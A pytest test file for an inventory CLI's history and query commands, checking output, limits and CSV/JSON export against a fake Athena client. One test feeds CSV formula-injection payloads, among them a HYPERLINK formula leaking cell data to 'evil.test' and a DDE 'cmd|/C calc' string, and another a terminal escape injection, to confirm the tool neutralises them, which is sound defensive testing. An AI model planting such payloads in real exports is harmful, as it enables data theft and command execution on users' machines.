"""`inventory history`: every movement with its cause and its actor, and where it stops."""

import csv
from collections.abc import Iterator
from io import StringIO
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from inventory_cli.aws import Aws
from support.terminal import Terminal, write_stack

COLUMNS = (
    *("happened_at", "warehouse_id", "shard", "available_change", "held_change", "available_after", "held_after"),
    *("cause", "cause_id", "reason", "reference", "actor", "event_id"),
)
RECEIVED = ("2026-11-22 18:00:00.100000", "berlin", "0", "40", "0", "40", "0", "adjustment", "adj_1", "received",
            "delivery-7", "key_clerk", "cup#berlin#0@1")  # fmt: skip
HELD = ("2026-11-22 18:00:01.200000", "berlin", "0", "-2", "2", "38", "2", "hold", "hold_1", None, None, "key_shop",
        "cup#berlin#0@2")  # fmt: skip


class Athena:
    """Answers with these rows, one a page."""

    def __init__(self, *rows: tuple[str | None, ...]) -> None:
        self.rows = (COLUMNS, *rows)
        self.asked = ""
        self.pages = 0

    def start_query_execution(self, **how: Any) -> dict[str, str]:
        self.asked = how["QueryString"]
        return {"QueryExecutionId": "q"}

    def get_query_execution(self, **_: Any) -> dict[str, Any]:
        return {"QueryExecution": {"Status": {"State": "SUCCEEDED"}}}

    def get_paginator(self, _: str) -> Any:
        return SimpleNamespace(paginate=self._paginate)

    def _paginate(self, **_: Any) -> Iterator[dict[str, Any]]:
        for row in self.rows:
            self.pages += 1
            yield {"ResultSet": {"Rows": [{"Data": [{} if cell is None else {"VarCharValue": cell} for cell in row]}]}}


@pytest.fixture
def athena(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Athena:
    write_stack(tmp_path, {"HistoryDatabase": "inventory_local", "HistoryWorkgroup": "inventory-local"})
    athena = Athena(RECEIVED, HELD)
    monkeypatch.setattr(Aws, "athena", athena)
    return athena


@pytest.fixture
def terminal(tmp_path: Path) -> Terminal:
    return Terminal(tmp_path)


def test_a_movement_is_told_with_its_cause_and_who_did_it(terminal: Terminal, athena: Athena) -> None:
    shown = terminal.run("history", "cup").out
    for told in ("2026-11-22 18:00:00.1", "berlin #0", "+40", "adjustment adj_1", "received · delivery-7", "key_clerk"):
        assert told in shown
    for told in ("-2", "+2", "38", "hold hold_1", "key_shop"):
        assert told in shown
    assert "'cup' AS item" in athena.asked


def test_a_script_gets_every_column(terminal: Terminal, athena: Athena) -> None:
    told = terminal.run("history", "cup", "--warehouse", "berlin", "--since", "2026-11-22 18:00:00", "--json").json
    assert told == [dict(zip(COLUMNS, row, strict=True)) for row in (RECEIVED, HELD)]
    assert "'berlin' AS warehouse" in athena.asked
    assert "'2026-11-22 18:00:00' AS since" in athena.asked


def test_a_long_story_is_told_up_to_a_limit_and_says_so(terminal: Terminal, athena: Athena) -> None:
    athena.rows = (COLUMNS, *[RECEIVED] * 50)
    cut = terminal.run("history", "cup", "--limit", "3", "--json")
    assert len(cut.json) == 3
    assert "more than 3" in cut.err
    assert athena.pages <= 5, "no more is fetched than is shown"
    whole = terminal.run("history", "cup", "--limit", "50", "--json")
    assert len(whole.json) == 50
    assert "more" not in whole.err


def test_a_query_has_a_limit_too(terminal: Terminal, athena: Athena) -> None:
    assert "1 rows, and there are more" in terminal.run("query", "movements", "--limit", "1").err
    as_csv = terminal.run("query", "movements", "--limit", "1", "--csv")
    assert len(as_csv.out.splitlines()) == 2
    assert "there are more" in as_csv.err
    assert "more" not in terminal.run("query", "movements", "--limit", "2").err


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.test/?"&A1,"ok")',
        "+SUM(1)",
        "-1+cmd|'/C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "-",
        "-espresso",
    ],
)
def test_a_spreadsheet_calculates_nothing_that_users_wrote(terminal: Terminal, athena: Athena, cell: str) -> None:
    athena.rows = (("reason",), (cell,))
    told = terminal.run("query", "movements", "--csv").out
    assert list(csv.reader(StringIO(told, newline=""))) == [["reason"], [f"'{cell}".replace("\r", "\n")]]
    assert terminal.run("query", "movements", "--json").json == [{"reason": cell}]


@pytest.mark.parametrize("cell", ["-2", "+2", "-2.50", "-1.0E-5", "cup-7", "PO =7", "", None])
def test_numbers_and_texts_that_are_no_formula_stay_as_they_are(
    terminal: Terminal, athena: Athena, cell: str | None
) -> None:
    athena.rows = (("one", "two"), (cell, "x"))
    assert terminal.run("query", "movements", "--csv").out == f"one,two\n{cell or ''},x\n"


def test_a_cell_does_nothing_to_the_terminal_that_shows_it(terminal: Terminal, athena: Athena) -> None:
    athena.rows = (("path",), ("archive/\x1b[2J\x1b[Hnothing is wrong",))
    assert terminal.run("query", "discrepancies", "--csv").out == "path\narchive/\ufffd[2J\ufffd[Hnothing is wrong\n"


def test_what_never_moved_says_so(terminal: Terminal, athena: Athena) -> None:
    athena.rows = (COLUMNS,)
    assert "Nothing moved of cup" in terminal.run("history", "cup").out


def test_what_users_wrote_is_shown_as_it_is(terminal: Terminal, athena: Athena) -> None:
    athena.rows = (("reason", "reference"), ("counted [bold] [/aisle 4]", "PO :bug:"))
    shown = terminal.run("query", "movements").out
    assert "counted [bold] [/aisle 4]" in shown
    assert "PO :bug:" in shown


def test_sql_keeps_its_lines_however_narrow_the_terminal(terminal: Terminal, athena: Athena) -> None:
    item = " ".join(["cup"] * 50)
    sql = terminal.run("query", "movements", "--param", f"item={item}", "--sql", "--json").json["sql"]
    assert terminal.run("query", "movements", "--param", f"item={item}", "--sql").out == f"{sql}\n"
